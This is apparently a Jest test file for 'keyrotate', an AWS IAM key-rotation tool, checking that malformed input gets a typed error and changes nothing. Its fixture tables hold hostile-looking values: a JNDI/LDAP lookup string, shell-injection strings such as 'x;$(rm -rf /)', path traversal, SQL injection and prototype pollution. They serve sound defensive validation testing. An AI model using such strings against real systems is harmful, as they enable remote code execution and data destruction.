/**
 * Proof of the guarantee "bad input changes nothing": bad input gets a typed error naming the field (never a secret), and no
 * AWS change. A table of malformed inputs to each entry point:
 *
 * - the state machine (execution input), run on the local engine;
 * - the CLI (`keyrotate rotate` flags), in-process through cli/main.ts, or through the rotate
 *   command wired to the same engine when the input is well-formed but wrong (unknown user);
 * - the Secrets Manager rotation Lambda: malformed events sent to it directly, and malformed
 *   secret values rotated through RotateSecret.
 *
 * Before and after each case the whole endpoint is snapshotted (every user's keys, every secret
 * version with a hash of its value, every lock) and must be identical.
 */
import { RotateSecretCommand, SecretsManagerClient } from '@aws-sdk/client-secrets-manager';
import { SFNClient } from '@aws-sdk/client-sfn';
import * as openpgp from 'openpgp';
import { type RotateDependencies, createRotateCommand } from '../../cli/commands/rotate';
import { main } from '../../cli/main';
import { memoryIo } from '../helpers/memory-io';
import {
  KEYBASE_USER_WITHOUT_KEY,
  type Proof,
  type WorldSnapshot,
  createSecret,
  createUsedUser,
  rotationFunctionName,
  since,
  snapshotWorld,
  startProof,
} from './support';

jest.setTimeout(180_000);

/** A value shaped like a secret access key: no error message may ever repeat it. */
const SECRET_LOOKING = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY';
const USER = 'bad-user';
const SECRET = 'bad/user';

interface PgpFixtures {
  readonly privateArmored: string;
  readonly privateBinaryBase64: string;
  readonly publicArmored: string;
  readonly signOnly: string;
  readonly revoked: string;
  readonly expired: string;
  readonly twoKeys: string;
  readonly message: string;
}

async function pgpFixtures(): Promise<PgpFixtures> {
  const userIDs = [{ name: 'bad input', email: 'bad@example.com' }];
  const first = await openpgp.generateKey({ type: 'curve25519', userIDs, format: 'armored' });
  const other = await openpgp.generateKey({ type: 'curve25519', userIDs, format: 'armored' });
  const signOnly = await openpgp.generateKey({ type: 'curve25519', userIDs, subkeys: [], format: 'armored' });
  const revoked = await openpgp.revokeKey({ key: await openpgp.readPrivateKey({ armoredKey: other.privateKey }), format: 'armored' });
  const twoDaysAgo = new Date(Date.now() - 2 * 86_400_000);
  const expired = await openpgp.generateKey({ type: 'curve25519', userIDs, date: twoDaysAgo, keyExpirationTime: 86_400, format: 'armored' });
  const privateKey = await openpgp.readPrivateKey({ armoredKey: first.privateKey });
  const message = await openpgp.encrypt({
    message: await openpgp.createMessage({ text: 'not a key' }),
    encryptionKeys: await openpgp.readKey({ armoredKey: first.publicKey }),
  });
  return {
    privateArmored: first.privateKey,
    privateBinaryBase64: Buffer.from(privateKey.write()).toString('base64'),
    publicArmored: first.publicKey,
    signOnly: signOnly.publicKey,
    revoked: revoked.publicKey,
    expired: expired.publicKey,
    twoKeys: `${first.publicKey}\n${other.publicKey}`,
    message: String(message),
  };
}

/** One malformed execution input: the error type, and text the cause must contain (the field). */
interface InputCase {
  /** The input, or a function of the suite's generated PGP keys. */
  readonly input: unknown;
  readonly error: string;
  readonly names: string;
  /** Stops in Plan, before any AWS write (validation, resolution, scope, key checks). */
  readonly planOnly?: boolean;
  /** The states whose Lambda ran, when not just Plan. */
  readonly lambdas?: readonly string[];
  /** The cause must not repeat this value. */
  readonly secret?: string;
}

function sm(extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { userName: USER, delivery: { type: 'secretsManager', secretId: SECRET }, ...extra };
}

function pgp(pgpKey: unknown, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { userName: USER, delivery: { type: 'pgp', pgpKey }, ...extra };
}

function inputCases(): [string, InputCase][] {
  const v = (input: unknown, names: string, extra: Partial<InputCase> = {}): InputCase => ({ input, error: 'ValidationError', names: `invalid ${names}`, planOnly: true, ...extra });
  return [
    ['input that is a string', v('rotate bad-user', 'input')],
    // JSONPath `$` over a null input fails in the state machine itself, before any Lambda runs.
    ['input that is null', { input: null, error: 'States.Runtime', names: "Path expression '$'", lambdas: [] }],
    ['input that is an array', v([sm()], 'input')],
    ['no userName and no accessKeyId', v({ delivery: { type: 'secretsManager', secretId: SECRET } }, 'userName')],
    ['both userName and accessKeyId', v(sm({ accessKeyId: 'AKIAEXAMPLEEXAMPLE12' }), 'accessKeyId')],
    ['userName of the wrong type', v(sm({ userName: 42 }), 'userName')],
    ['an empty userName', v(sm({ userName: '' }), 'userName')],
    ['an oversized userName (10 000 characters)', v(sm({ userName: 'u'.repeat(10_000) }), 'userName')],
    ['a userName with a NUL character', v(sm({ userName: 'bad-user\u0000' }), 'userName')],
    ['a userName with an escape sequence', v(sm({ userName: 'bad\u001b[31muser' }), 'userName')],
    ['a path-traversal userName', v(sm({ userName: '../../etc/passwd' }), 'userName')],
    ['an SQL-injection-looking userName', v(sm({ userName: "bad-user' OR '1'='1" }), 'userName')],
    ['a template-injection-looking userName', v(sm({ userName: '${jndi:ldap://evil.example/a}' }), 'userName')],
    ['a secret pasted as userName', v(sm({ userName: SECRET_LOOKING }), 'userName', { secret: SECRET_LOOKING })],
    ['an unknown user', { input: sm({ userName: 'ghost-user' }), error: 'UserNotFoundError', names: "IAM user 'ghost-user'", planOnly: true }],
    ['a user outside the scope', { input: sm({ userName: 'bad-outsider' }), error: 'UserOutOfScopeError', names: "IAM user 'bad-outsider'", planOnly: true }],
    ['a lower-case accessKeyId', v({ accessKeyId: 'akiaexampleexample12', delivery: { type: 'pgp', pgpKey: 'keybase:alice' } }, 'accessKeyId')],
    ['a temporary (ASIA) accessKeyId', v({ accessKeyId: 'ASIAEXAMPLEEXAMPLE12', delivery: { type: 'pgp', pgpKey: 'keybase:alice' } }, 'accessKeyId')],
    ['a secret pasted as accessKeyId', v({ accessKeyId: SECRET_LOOKING, delivery: { type: 'pgp', pgpKey: 'keybase:alice' } }, 'accessKeyId', { secret: SECRET_LOOKING })],
    ['an accessKeyId nobody has', { input: { accessKeyId: 'AKIA0000000000000000', delivery: { type: 'pgp', pgpKey: 'keybase:alice' } }, error: 'AccessKeyNotFoundError', names: 'AKIA0000000000000000', planOnly: true }],
    ['an oldAccessKeyId the user does not have', { input: sm({ oldAccessKeyId: 'AKIA1111111111111111' }), error: 'KeyStateConflictError', names: 'oldAccessKeyId', planOnly: true }],
    ['no delivery', v({ userName: USER }, 'delivery')],
    ['a delivery that is a string', v({ userName: USER, delivery: 'secretsManager' }, 'delivery')],
    ['an unknown delivery type', v({ userName: USER, delivery: { type: 'email', to: 'x@example.com' } }, 'delivery.type')],
    ['a delivery with an unknown field', v({ userName: USER, delivery: { type: 'secretsManager', secretId: SECRET, kmsKeyId: 'x' } }, 'delivery.kmsKeyId')],
    ['secretsManager delivery without secretId', v({ userName: USER, delivery: { type: 'secretsManager' } }, 'delivery.secretId')],
    ['an empty secretId', v(sm({ delivery: { type: 'secretsManager', secretId: '' } }), 'delivery.secretId')],
    ['an oversized secretId', v(sm({ delivery: { type: 'secretsManager', secretId: 's'.repeat(3000) } }), 'delivery.secretId')],
    ['a shell-injection-looking secretId', v(sm({ delivery: { type: 'secretsManager', secretId: 'x;$(rm -rf /)' } }), 'delivery.secretId')],
    ['a secret that does not exist', { input: sm({ delivery: { type: 'secretsManager', secretId: 'bad/missing' } }), error: 'SecretNotFoundError', names: "secret 'bad/missing'", planOnly: true }],
    ["a secret holding someone else's user name", { input: sm({ delivery: { type: 'secretsManager', secretId: 'bad/other-owner' } }), error: 'SecretMismatchError', names: "IAM user 'someone-else'", planOnly: true }],
    ["a secret whose value is not keyrotate's", { input: sm({ delivery: { type: 'secretsManager', secretId: 'bad/plain-text' } }), error: 'SecretMismatchError', names: "secret 'bad/plain-text'", planOnly: true, secret: 'hunter2-plain-text-password' }],
    ['a pgpKey of the wrong type', v(pgp(12345), 'delivery.pgpKey')],
    ['an empty pgpKey', v(pgp(''), 'delivery.pgpKey')],
    ['an oversized pgpKey (70 000 characters)', v(pgp('A'.repeat(70_000)), 'delivery.pgpKey')],
    ['a pgpKey with control characters', v(pgp('keybase:alice\u0007'), 'delivery.pgpKey')],
    ['a pgpKey that is no key form', v(pgp('hello world, this is not a key'), 'delivery.pgpKey')],
    ['a pgpKey of an unknown form', v(pgp('ldap:alice'), 'delivery.pgpKey')],
    ['an armored private key', v((k: PgpFixtures) => pgp(k.privateArmored), 'delivery.pgpKey')],
    ['base64 of a binary private key', v((k: PgpFixtures) => pgp(k.privateBinaryBase64), 'delivery.pgpKey')],
    ['an armored PGP message instead of a key', v((k: PgpFixtures) => pgp(k.message), 'delivery.pgpKey')],
    ['base64 of bytes that are no OpenPGP packets', v(pgp(Buffer.from('just some bytes, not packets').toString('base64')), 'delivery.pgpKey')],
    ['base64 of an armored private key', v((k: PgpFixtures) => pgp(Buffer.from(k.privateArmored).toString('base64')), 'delivery.pgpKey')],
    ['a Keybase name that is too short', v(pgp('keybase:a'), 'delivery.pgpKey')],
    ['a path-traversal Keybase name', v(pgp('keybase:../../admin'), 'delivery.pgpKey')],
    ['a GitHub name with bad hyphens', v(pgp('github:-bad-'), 'delivery.pgpKey')],
    ['external: without a URL', v(pgp('external:alice'), 'delivery.pgpKey')],
    ['external: with a plain-http URL', v(pgp('external:alice|http://keys.example.com/%s.asc'), 'delivery.pgpKey')],
    ['external: with an ftp URL', v(pgp('external:alice|ftp://keys.example.com/%s.asc'), 'delivery.pgpKey')],
    ['external: with a path-traversal name', v(pgp('external:../etc|https://keys.example.com/%s'), 'delivery.pgpKey')],
    ['an armored key cut in half', v((k: PgpFixtures) => pgp(k.publicArmored.slice(0, Math.floor(k.publicArmored.length / 2))), 'delivery.pgpKey')],
    ['two keys in one pgpKey', v((k: PgpFixtures) => pgp(k.twoKeys), 'delivery.pgpKey')],
    ['a signing-only key', { input: (k: PgpFixtures) => pgp(k.signOnly), error: 'PgpKeyError', names: 'cannot encrypt' }],
    ['a revoked key', { input: (k: PgpFixtures) => pgp(k.revoked), error: 'PgpKeyError', names: 'revoked' }],
    ['an expired key', { input: (k: PgpFixtures) => pgp(k.expired), error: 'PgpKeyError', names: 'expired' }],
    ['a Keybase user that does not exist', { input: pgp('keybase:ghostuser'), error: 'PgpKeyError', names: "no Keybase user named 'ghostuser'" }],
    ['a Keybase user with no key', { input: pgp(`keybase:${KEYBASE_USER_WITHOUT_KEY}`), error: 'PgpKeyError', names: `Keybase user '${KEYBASE_USER_WITHOUT_KEY}' has no primary public key` }],
    ['sesSmtpRegions that is a string', v(sm({ sesSmtpRegions: 'eu-west-1' }), 'sesSmtpRegions')],
    ['an unknown region', v(sm({ sesSmtpRegions: ['xx-nowhere-1'] }), 'sesSmtpRegions')],
    ['a region of the wrong type', v(sm({ sesSmtpRegions: [42] }), 'sesSmtpRegions[0]')],
    ['a region with a line break', v(sm({ sesSmtpRegions: ['eu-west-1\n'] }), 'sesSmtpRegions[0]')],
    ['33 regions', v(sm({ sesSmtpRegions: Array.from({ length: 33 }, () => 'eu-west-1') }), 'sesSmtpRegions')],
    ['a lower-case newKeyStatus', v(sm({ newKeyStatus: 'active' }), 'newKeyStatus')],
    ['an Inactive new key delivered to a secret', v(sm({ newKeyStatus: 'Inactive' }), 'newKeyStatus')],
    ['an unknown oldKey.action', v(sm({ oldKey: { action: 'shred' } }), 'oldKey.action')],
    ['a grace period given as a string', v(sm({ oldKey: { gracePeriodSeconds: '10' } }), 'oldKey.gracePeriodSeconds')],
    ['a fractional grace period', v(sm({ oldKey: { gracePeriodSeconds: 1.5 } }), 'oldKey.gracePeriodSeconds')],
    ['a negative deletion delay', v(sm({ oldKey: { deletionDelaySeconds: -1 } }), 'oldKey.deletionDelaySeconds')],
    ['an oversized deletion delay', v(sm({ oldKey: { deletionDelaySeconds: 1e12 } }), 'oldKey.deletionDelaySeconds')],
    ['a typo in oldKey', v(sm({ oldKey: { gracePeriodSecond: 60 } }), 'oldKey.gracePeriodSecond')],
    ['dryRun given as a string', v(sm({ dryRun: 'yes' }), 'dryRun')],
    ['an unknown top-level field', v(sm({ gracePeriod: 3 }), 'gracePeriod')],
    ['a __proto__ field', v(JSON.parse(`{"userName":"${USER}","delivery":{"type":"pgp","pgpKey":"keybase:alice"},"__proto__":{"dryRun":true}}`), '__proto__')],
  ];
}

/** One malformed `keyrotate rotate` invocation: exit code 2 and the flag named on stderr. */
const CLI_USAGE_CASES: [string, string[], string][] = [
  ['no user and no key', ['--secret-id', SECRET, '--local'], 'give exactly one of --user NAME or --access-key-id ID'],
  ['both --user and --access-key-id', ['--user', USER, '--access-key-id', 'AKIAEXAMPLEEXAMPLE12', '--secret-id', SECRET, '--local'], 'give exactly one of --user'],
  ['neither --secret-id nor --pgp-key', ['--user', USER, '--local'], 'give exactly one of --secret-id ID or --pgp-key KEY'],
  ['neither --local nor --state-machine-arn', ['--user', USER, '--secret-id', SECRET], 'give exactly one of --local or --state-machine-arn'],
  ['an empty --user', ['--user', '', '--secret-id', SECRET, '--local'], '--user: invalid userName'],
  ['a path-traversal --user', ['--user', '../../root', '--secret-id', SECRET, '--local'], '--user: invalid userName'],
  ['an injection-looking --user', ['--user', 'x; aws iam delete-user', '--secret-id', SECRET, '--local'], '--user: invalid userName'],
  ['a --user with a control character', ['--user', 'bad\u0007user', '--secret-id', SECRET, '--local'], '--user: invalid userName'],
  ['an oversized --user', ['--user', 'u'.repeat(65), '--secret-id', SECRET, '--local'], '--user: invalid userName'],
  ['a temporary --access-key-id', ['--access-key-id', 'ASIAEXAMPLEEXAMPLE12', '--secret-id', SECRET, '--local'], '--access-key-id: invalid accessKeyId'],
  ['a malformed --old-key-id', ['--user', USER, '--old-key-id', 'akia-lower', '--secret-id', SECRET, '--local'], '--old-key-id: invalid oldAccessKeyId'],
  ['an injection-looking --secret-id', ['--user', USER, '--secret-id', '$(reboot)', '--local'], '--secret-id: invalid delivery.secretId'],
  ['an unknown --pgp-key form', ['--user', USER, '--pgp-key', 'ldap:alice', '--local'], '--pgp-key: invalid delivery.pgpKey'],
  ['a plain-http external --pgp-key', ['--user', USER, '--pgp-key', 'external:alice|http://keys.example.com/%s', '--local'], '--pgp-key: invalid delivery.pgpKey'],
  ['an unreadable --pgp-key @FILE', ['--user', USER, '--pgp-key', '@/nonexistent/key.asc', '--local'], "--pgp-key: cannot read key file '/nonexistent/key.asc'"],
  ['an unknown --smtp-region', ['--user', USER, '--secret-id', SECRET, '--smtp-region', 'xx-nowhere-1', '--local'], '--smtp-region: invalid sesSmtpRegions'],
  ['--no-smtp with --smtp-region', ['--user', USER, '--secret-id', SECRET, '--no-smtp', '--smtp-region', 'eu-west-1', '--local'], '--no-smtp and --smtp-region exclude each other'],
  ['an unknown --new-key-status', ['--user', USER, '--pgp-key', 'keybase:alice', '--new-key-status', 'Paused', '--local'], '--new-key-status: invalid newKeyStatus'],
  ['a --grace that is no duration', ['--user', USER, '--secret-id', SECRET, '--grace', '10y', '--local'], "--grace: '10y' is not a duration"],
  ['a negative --delete-after', ['--user', USER, '--secret-id', SECRET, '--delete-after=-5', '--local'], "--delete-after: '-5' is not a duration"],
  ['a --require-unused longer than a year', ['--user', USER, '--secret-id', SECRET, '--require-unused', '400d', '--local'], '--require-unused: invalid oldKey.requireUnusedSeconds'],
  ['--delete-after with --keep-old-key', ['--user', USER, '--secret-id', SECRET, '--keep-old-key', '--delete-after', '1d', '--local'], '--delete-after has no effect with --keep-old-key'],
  ['a malformed --state-machine-arn', ['--user', USER, '--secret-id', SECRET, '--state-machine-arn', 'arn:aws:lambda:eu-west-1:1:function:x'], '--state-machine-arn: not a Step Functions state machine ARN'],
  ['--wait-ms without --local', ['--user', USER, '--secret-id', SECRET, '--state-machine-arn', 'arn:aws:states:eu-west-1:123456789012:stateMachine:K', '--wait-ms', '5'], '--wait-ms applies to --local only'],
  ['a --wait-ms that is no number', ['--user', USER, '--secret-id', SECRET, '--local', '--wait-ms', '1e3'], "--wait-ms: '1e3' is not a whole number"],
  ['an execution --name with blanks', ['--user', USER, '--secret-id', SECRET, '--local', '--name', 'my rotation'], '--name: 1 to 80 of letters'],
  ['an unknown flag', ['--user', USER, '--secret-id', SECRET, '--local', '--force'], "Unknown option '--force'"],
  ['a stray secret-looking argument', ['--user', USER, '--secret-id', SECRET, '--local', SECRET_LOOKING], 'unexpected argument (not shown)'],
];

/** Malformed events sent straight to the rotation Lambda, as a misconfigured caller would. */
const ROTATION_EVENT_CASES: [string, unknown, string][] = [
  ['an unknown Step', { Step: 'dropSecret', SecretId: 'proof/rotation-a', ClientRequestToken: 'a'.repeat(36) }, 'invalid Step'],
  ['no Step', { SecretId: 'proof/rotation-a', ClientRequestToken: 'a'.repeat(36) }, 'invalid Step'],
  ['a ClientRequestToken with blanks', { Step: 'createSecret', SecretId: 'proof/rotation-a', ClientRequestToken: 'a token with blanks' }, 'invalid ClientRequestToken'],
  ['an oversized ClientRequestToken', { Step: 'createSecret', SecretId: 'proof/rotation-a', ClientRequestToken: 't'.repeat(65) }, 'invalid ClientRequestToken'],
  ['a SecretId of the wrong type', { Step: 'createSecret', SecretId: 7, ClientRequestToken: 'a'.repeat(36) }, 'invalid SecretId'],
  ['an event that is an array', [{ Step: 'createSecret' }], 'invalid Step'],
];

/** Secret values a Secrets Manager rotation may find: each must stop createSecret, changing nothing. */
const ROTATION_VALUE_CASES: [string, string, string, string][] = [
  ['a value that is not JSON', 'user=bad-user', 'SecretMismatchError', 'the value is not JSON'],
  ['a JSON array', '["bad-user"]', 'SecretMismatchError', 'the value is not a JSON object'],
  ['no userName', '{"sesSmtpRegions":["eu-west-1"]}', 'SecretMismatchError', 'field userName'],
  ['a userName of the wrong type', '{"userName":42}', 'SecretMismatchError', 'field userName'],
  ['a path-traversal userName', '{"userName":"../admin"}', 'SecretMismatchError', 'field userName'],
  ['an unknown field', '{"userName":"bad-user","password":"hunter2-is-not-shown"}', 'SecretMismatchError', 'unexpected field "password"'],
  ['sesSmtpRegions that is a string', '{"userName":"bad-user","sesSmtpRegions":"eu-west-1"}', 'SecretMismatchError', 'field sesSmtpRegions'],
  ['an unknown SES region', '{"userName":"bad-user","sesSmtpRegions":["xx-nowhere-1"]}', 'ValidationError', 'secret.sesSmtpRegions'],
  ['an unknown user', '{"userName":"ghost-user"}', 'UserNotFoundError', "IAM user 'ghost-user'"],
  ['a user outside the scope', '{"userName":"bad-outsider"}', 'UserOutOfScopeError', "IAM user 'bad-outsider'"],
  [
    'a full value naming a key the user does not have',
    JSON.stringify({ userName: USER, accessKeyId: 'AKIA2222222222222222', secretAccessKey: 'x'.repeat(40), sesSmtpPasswords: {}, createDate: '2026-01-01T00:00:00Z' }),
    'KeyStateConflictError',
    'AKIA2222222222222222',
  ],
];

function expectSame(before: WorldSnapshot, after: WorldSnapshot): void {
  expect(after).toEqual(before);
}

describe('bad input: a typed error naming the field, and no change', () => {
  let proof: Proof;
  let keys: PgpFixtures;
  const timings: Record<string, number> = {};
  const started = Date.now();

  beforeAll(async () => {
    [proof, keys] = await Promise.all([startProof(), pgpFixtures()]);
    await createUsedUser(proof, USER);
    await createUsedUser(proof, 'bad-outsider', '/');
    await createUsedUser(proof, 'someone-else');
    await createSecret(proof, SECRET);
    await createSecret(proof, 'bad/other-owner', JSON.stringify({ userName: 'someone-else' }));
    await createSecret(proof, 'bad/plain-text', 'hunter2-plain-text-password');
  });

  afterAll(async () => {
    await proof?.close();
    console.log(`bad-input: ${JSON.stringify(timings)}; total ${since(started)} ms`);
  });

  describe('state machine input', () => {
    const cases = inputCases();

    it('has at least 40 rows', () => {
      // Prepare / Act / Assess
      expect(cases.length).toBeGreaterThanOrEqual(40);
    });

    it.each(cases)('%s', async (_label, row) => {
      // Prepare
      const input = typeof row.input === 'function' ? (row.input as (k: PgpFixtures) => unknown)(keys) : row.input;
      const before = await snapshotWorld(proof);
      const t0 = Date.now();

      // Act
      const result = await proof.engine.run(input);

      // Assess
      timings.stateMachine = (timings.stateMachine ?? 0) + since(t0);
      if (result.status !== 'FAILED') throw new Error(`expected FAILED, got ${result.status}`);
      expect(result.error).toBe(row.error);
      expect(result.cause).toContain(row.names);
      if (row.secret) expect(result.cause).not.toContain(row.secret);
      if (row.planOnly || row.lambdas) expect(result.execution.invocations.map((i) => i.stateName)).toEqual(row.lambdas ?? ['Plan']);
      expectSame(before, await snapshotWorld(proof));
    });
  });

  describe('CLI flags (keyrotate rotate)', () => {
    it.each(CLI_USAGE_CASES)('%s: exit 2, naming the flag', async (_label, args, message) => {
      // Prepare
      const before = await snapshotWorld(proof);
      const calls = proof.aws.calls.all().length;
      const io = memoryIo('', { AWS_ENDPOINT_URL: proof.engine.endpoint });

      // Act
      const code = await main(['rotate', ...args], io);

      // Assess
      expect(code).toBe(2);
      expect(io.err()).toContain(message);
      expect(io.err()).not.toContain(SECRET_LOOKING);
      expect(io.out()).toBe('');
      expect(proof.aws.calls.all().length).toBe(calls);
      expectSame(before, await snapshotWorld(proof));
    });

    /** The rotate command wired to the proof engine, as `--local` wires it to a fresh one. */
    function engineRotate() {
      const deps: RotateDependencies = {
        startLocal: async (request, _io, onEvent) => {
          const execution = proof.engine.start(request.input, { onEvent });
          return { executionArn: execution.executionArn, stateNames: proof.engine.stateNames, result: execution.result, close: async () => undefined };
        },
        sfnClient: () => new SFNClient({ region: 'us-east-1' }),
        pollMs: 10,
      };
      return createRotateCommand(deps);
    }

    it.each([
      ['an unknown user', ['--user', 'ghost-user', '--secret-id', SECRET], "UserNotFoundError: IAM user 'ghost-user' does not exist"],
      ['a user outside the scope', ['--user', 'bad-outsider', '--secret-id', SECRET], "UserOutOfScopeError: IAM user 'bad-outsider'"],
      ["a secret holding someone else's user name", ['--user', USER, '--secret-id', 'bad/other-owner'], "SecretMismatchError: secret 'bad/other-owner' belongs to IAM user 'someone-else'"],
      ['a Keybase user with no key', ['--user', USER, '--pgp-key', `keybase:${KEYBASE_USER_WITHOUT_KEY}`], `PgpKeyError: PGP key (keybase): Keybase user '${KEYBASE_USER_WITHOUT_KEY}' has no primary public key`],
    ])('%s: exit 1 with the typed error', async (_label, args, message) => {
      // Prepare
      const before = await snapshotWorld(proof);
      const io = memoryIo();

      // Act
      const code = await engineRotate().run([...args, '--local'], io);

      // Assess
      expect(code).toBe(1);
      expect(io.err()).toContain(`keyrotate rotate: ${message}`);
      expect(io.out()).toBe('');
      expectSame(before, await snapshotWorld(proof));
    });
  });

  describe('rotation Lambda events', () => {
    it.each(ROTATION_EVENT_CASES)('%s', async (_label, event, message) => {
      // Prepare
      const fn = proof.engine.runtime.get(rotationFunctionName(proof));
      if (!fn) throw new Error('no rotation function');
      const before = await snapshotWorld(proof);

      // Act
      const result = await fn.invoke(event);

      // Assess
      if (result.ok) throw new Error('expected the rotation Lambda to fail');
      expect(result.error.errorType).toBe('ValidationError');
      expect(result.error.errorMessage).toContain(message);
      expectSame(before, await snapshotWorld(proof));
    });
  });

  describe('secret values rotated by Secrets Manager', () => {
    let n = 0;

    it.each(ROTATION_VALUE_CASES)('%s', async (_label, value, error, message) => {
      // Prepare: a fresh secret per row, holding the malformed value, rotated by the stack's function
      const name = `bad/rotation-${++n}`;
      await createSecret(proof, name, value);
      const before = await snapshotWorld(proof);
      const sm = new SecretsManagerClient({ ...proof.engine.sdkConfig, maxAttempts: 1 });
      const keysBefore = proof.aws.iam.listAccessKeys(USER).length;

      // Act
      const outcome = await sm
        .send(new RotateSecretCommand({ SecretId: name, RotationLambdaARN: proof.engine.rotationFunctionArns[0] }))
        .then(() => 'succeeded', (e: unknown) => (e instanceof Error ? e.message : String(e)))
        .finally(() => sm.destroy());

      // Assess
      const record = proof.aws.secretsManager.rotations().at(-1);
      expect(record?.steps).toEqual([{ step: 'createSecret', ok: false, error: expect.stringContaining(`${error}: `) }]);
      expect(record?.steps[0]?.error).toContain(message);
      expect(outcome).toContain(`failed at step createSecret: ${error}`);
      expect(outcome).not.toContain('hunter2');
      // Secrets Manager itself leaves its AWSPENDING placeholder (no value) when a rotation
      // fails; everything keyrotate could have changed is as before.
      const after = await snapshotWorld(proof);
      const withoutPlaceholder = after.secrets[name]?.filter((v) => v.value !== '(none)');
      expect({ ...after, secrets: { ...after.secrets, [name]: withoutPlaceholder } }).toEqual(before);
      expect(proof.aws.iam.listAccessKeys(USER)).toHaveLength(keysBefore);
    });
  });

  it('touched nothing in IAM over the whole table but the keys it rolled back', () => {
    // Prepare / Act: the rows above ran

    // Assess: the only user keys ever created were deleted again by RollBack (PGP key errors
    // found at delivery); the user still has exactly its one original Active key.
    expect(proof.aws.iam.listAccessKeys(USER).map((k) => k.status)).toEqual(['Active']);
    const created = proof.aws.calls.of('iam', 'CreateAccessKey').length;
    const deleted = proof.aws.calls.of('iam', 'DeleteAccessKey').length;
    expect(deleted).toBe(created);
    expect(proof.aws.calls.of('iam', 'UpdateAccessKey')).toEqual([]);
  });
});
